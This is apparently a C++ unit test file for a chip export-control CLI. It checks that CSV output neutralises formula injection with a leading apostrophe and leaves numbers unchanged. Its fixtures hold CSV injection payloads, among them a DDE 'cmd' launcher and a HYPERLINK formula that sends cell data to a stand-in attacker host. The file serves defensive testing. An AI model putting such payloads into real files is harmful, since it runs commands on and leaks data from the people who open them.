// CSV formula injection: ids, product names and party/list names that begin with = + - @ (or a tab or
// CR) are written with a leading apostrophe by every CSV output, so that a spreadsheet shows them as
// text instead of running them; plain numbers, negative ones included, are written unchanged. Through
// the CLI: classify, decide and impact (products and order lines). Before io::CsvWriter these cells
// were written as given.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "io/csv.h"
#include "test_support.h"

namespace chipgate {
namespace {

using test::run_cli;

std::vector<std::vector<std::string>> read_csv(const std::string& text) {
  io::CsvReader reader(text);
  io::CsvRecord rec;
  std::string err;
  std::vector<std::vector<std::string>> rows;
  while (true) {
    const auto st = reader.next(rec, err);
    if (st == io::CsvStatus::kEnd) break;
    EXPECT_EQ(st, io::CsvStatus::kRecord) << err;
    rows.push_back(rec.fields);
  }
  return rows;
}

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

std::vector<std::string> lines_of(const std::string& s) {
  std::vector<std::string> out(1);
  for (char c : s) {
    if (c == '\n')
      out.emplace_back();
    else
      out.back() += c;
  }
  if (out.back().empty()) out.pop_back();
  return out;
}

// Two products: a formula as id and an '@' name; a negative number as id. TPP = 1979 dense FP8
// TFLOPS x 8 bits = 15832 (dense TFLOPS already count both operations of a multiply-accumulate).
const char* kCatalog =
    "id,vendor,name,kind,datacenter,dense_tflops_fp8,die_area_mm2\n"
    "\"=cmd|' /C calc'!A0\",Evil,@Widget 9000,gpu,yes,1979,814\n"
    "-7,Acme,-7 Card,gpu,yes,1979,814\n";

const char* kOrders =
    "order_id,line,date,product_id,quantity,value_usd,ship_to,consignee,end_user,end_user_country,"
    "end_user_hq_country,end_uses\n"
    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",1,2026-11-25,-7,8,240000,DE,Example Cloud GmbH,"
    "Example Cloud GmbH,DE,DE,\n"
    "-42,-1,2026-11-25,-7,2,60000,DE,Example Cloud GmbH,Example Cloud GmbH,DE,DE,\n"
    "+SUM(1),@A1,2026-11-25,-7,1,30000,CN,\"Evil Widgets Co., Ltd.\",Example AI Lab,CN,CN,\n";

// One restricted party whose listed name begins with '@'.
const char* kList = R"({"list_id": "bis-entity-list", "entities": [{"name": "@Evil Widgets Co., Ltd.", "aliases": [],)"
                    R"( "country": "China"}]})";

struct Files {
  std::string dir, catalog, orders, list;
};

Files write_inputs() {
  Files f;
  f.dir = test::temp_dir();
  f.catalog = f.dir + "/catalog.csv";
  f.orders = f.dir + "/orders.csv";
  f.list = f.dir + "/list.json";
  test::write_file(f.catalog, kCatalog);
  test::write_file(f.orders, kOrders);
  test::write_file(f.list, kList);
  return f;
}

TEST(CsvWriter, NeutralisesFormulaCellsAndKeepsNumbers) {
  EXPECT_EQ(io::csv_cell("=1+2"), "'=1+2");
  EXPECT_EQ(io::csv_cell("+1+2"), "'+1+2");
  EXPECT_EQ(io::csv_cell("-1+2"), "'-1+2");
  EXPECT_EQ(io::csv_cell("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(io::csv_cell("\t=1"), "'\t=1");
  EXPECT_EQ(io::csv_cell("\r=1"), "\"'\r=1\"");  // a CR also needs quotes
  EXPECT_EQ(io::csv_cell("=A1,B1"), "\"'=A1,B1\"");
  EXPECT_EQ(io::csv_cell("=\"x\""), "\"'=\"\"x\"\"\"");
  // Plain numbers stay numbers.
  for (const char* n : {"-42", "-1.5", "0", "15832", "-0.25e-3", "1E6", ".5", "-.5"}) EXPECT_EQ(io::csv_cell(n), n);
  // Not plain numbers: a plus sign, a second sign, a trailing letter, an exponent without digits.
  for (const char* s : {"+5", "--5", "-5a", "-5e", "-", "-A1"}) EXPECT_EQ(io::csv_cell(s), std::string("'") + s);
  // Ordinary text is unchanged or only quoted; a formula character after the first is harmless.
  EXPECT_EQ(io::csv_cell("Huawei"), "Huawei");
  EXPECT_EQ(io::csv_cell("a=1"), "a=1");
  EXPECT_EQ(io::csv_cell(" =1"), " =1");
  EXPECT_EQ(io::csv_cell("Co., Ltd."), "\"Co., Ltd.\"");
  EXPECT_EQ(io::csv_cell(""), "");
}

TEST(CsvWriter, WritesRowsWithCommasAndLineFeeds) {
  std::string out;
  io::CsvWriter w(out);
  w.row({"id", "name"});
  w.cell("-3").cell("=x");
  w.end_row();
  EXPECT_EQ(out, "id,name\n-3,'=x\n");
}

TEST(CsvOutputCli, ClassifyNeutralisesIdsAndKeepsNumbers) {
  const Files f = write_inputs();
  auto r = run_cli("classify --catalog " + f.catalog + " --date 2026-11-25 --format csv --rules " + test::rules_dir());
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 3u) << r.out;
  EXPECT_EQ(lines[0], "id,date,status,eccn,candidates,missing,tpp,pd,mbd,rules");
  EXPECT_EQ(lines[1].rfind("'=cmd|' /C calc'!A0,2026-11-25,", 0), 0u) << lines[1];
  EXPECT_EQ(lines[2].rfind("-7,2026-11-25,", 0), 0u) << lines[2];
  const auto rows = read_csv(r.out);
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[2][6], "15832");  // tpp, a number
}

TEST(CsvOutputCli, DecideNeutralisesOrderIdsLinesAndListedPartyNames) {
  const Files f = write_inputs();
  auto r = run_cli("decide --orders " + f.orders + " --catalog " + f.catalog + " --lists " + f.list +
                   " --format csv --rules " + test::rules_dir());
  ASSERT_EQ(r.exit_code, 3) << r.err;
  const auto lines = lines_of(r.out);
  ASSERT_EQ(lines.size(), 4u) << r.out;
  EXPECT_EQ(lines[1].rfind(R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,2026-11-25,-7,)csv", 0), 0u)
      << lines[1];
  EXPECT_EQ(lines[2].rfind("-42,-1,2026-11-25,-7,", 0), 0u) << lines[2];
  EXPECT_EQ(lines[3].rfind("'+SUM(1),'@A1,2026-11-25,-7,", 0), 0u) << lines[3];
  const auto rows = read_csv(r.out);
  ASSERT_EQ(rows.size(), 4u);
  ASSERT_EQ(rows[0][9], "parties");
  EXPECT_EQ(rows[3][9].rfind("'@Evil Widgets Co., Ltd. (", 0), 0u) << rows[3][9];
}

TEST(CsvOutputCli, ImpactNeutralisesProductsAndOrderLinesAndKeepsNumbers) {
  const Files f = write_inputs();
  const std::string orders_csv = f.dir + "/lines.csv";
  auto r = run_cli("impact --base 2026-11-25 --scenario hbm-rollback --catalog " + f.catalog + " --orders " + f.orders +
                   " --lists " + f.list + " --format csv --orders-csv " + orders_csv + " --rules " + test::rules_dir());
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto products = read_csv(r.out);
  ASSERT_EQ(products.size(), 3u) << r.out;
  EXPECT_EQ(products[1][0], "'=cmd|' /C calc'!A0");
  EXPECT_EQ(products[1][1], "'@Widget 9000");
  EXPECT_EQ(products[2][0], "-7");
  EXPECT_EQ(products[2][1], "'-7 Card");  // text that begins like a negative number is not one
  EXPECT_EQ(products[2][11], "15832");    // tpp
  const auto lines = lines_of(read_text(orders_csv));
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_EQ(lines[0].rfind("order_id,line,row,product_id,ship_to,quantity,value_usd,", 0), 0u) << lines[0];
  EXPECT_EQ(lines[1].rfind(R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,2,-7,DE,8,240000,)csv", 0), 0u)
      << lines[1];
  EXPECT_EQ(lines[2].rfind("-42,-1,3,-7,DE,2,60000,", 0), 0u) << lines[2];
  EXPECT_EQ(lines[3].rfind("'+SUM(1),'@A1,4,-7,CN,1,30000,", 0), 0u) << lines[3];
}

}  // namespace
}  // namespace chipgate
